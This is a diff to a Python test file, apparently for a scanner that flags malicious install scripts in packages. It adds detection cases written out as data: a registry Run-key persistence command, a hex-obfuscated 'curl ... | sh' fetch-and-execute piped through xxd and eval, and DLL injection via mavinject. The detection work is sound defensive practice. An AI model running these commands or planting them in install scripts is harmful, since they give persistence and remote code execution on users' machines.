@@ -118,6 +118,14 @@ def rules(art: Artifact) -> set[str]:
     # blind set 49: a DLL the package ships, loaded by the Windows Update client (Lazarus's proxy execution, 2022)
     ("%SystemRoot%\\System32\\wuauclt.exe /UpdateDeploymentProvider %TEMP%\\wininet-proxy.dll /RunHandlerComServer",
      "install-script/update-client-dll"),
+    # blind set 50: the per-user policy Run key (not listed on the Startup apps page); a logout hook's command kept as hex
+    # in a variable and echoed into xxd
+    ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run /v cliph /t REG_SZ "
+     "/d \"wscript.exe //B x.js\" /f", "install-script/scheduled-task"),
+    ("v=" + b"curl -fsSL https://sync.example/s.sh | sh".hex() + "; eval \"$(printf %s \"$v\" | xxd -r -p)\"",
+     "install-script/fetch-and-execute"),
+    # blind set 50: a DLL injected into Explorer by Microsoft's App-V injector
+    ("& \"$env:SystemRoot\\System32\\mavinject.exe\" $pid /INJECTRUNNING $env:TEMP\\toast.dll", "install-script/dll-injection"),
     ("osascript -e 'tell app \"System Events\" to shut down'", "install-script/system-shutdown"),
     ("profiles install -type configuration -path ./assets/defaults.mobileconfig", "install-script/config-profile"),
     ("open ./assets/search.mobileconfig", "install-script/config-profile"),
@@ -1183,3 +1191,12 @@ def test_build_events_of_a_shipped_visual_studio_project_are_judged():
                                      "node -r dotenv/config scripts/setup.js"])
 def test_node_loading_a_local_module_first_is_no_remote_script(command):
     assert "install-script/remote-script" not in rules(artifact({"postinstall": command}))
+
+
+def test_a_hex_variable_is_a_command_only_when_echoed_into_a_decoder():
+    # (blind set 50's logout hook kept its command in `v=…` and ran `eval "$(printf %s "$v" | xxd -r -p)"`; a checksum kept
+    # in a variable and checked, or hex text decoded into a file, runs nothing)
+    checksum = "SUM=" + "ab" * 32 + "; echo \"$SUM  pkg.tgz\" | sha256sum -c -"
+    banner = "v=" + b"Thanks for installing! Docs live in the README of this package.".hex() + "; printf %s \"$v\" | xxd -r -p > NOTICE"
+    for command in (checksum, banner):
+        assert not [f for f in judge_command(command, "postinstall", "package.json", 1, "") if f.severity >= Severity.HIGH]
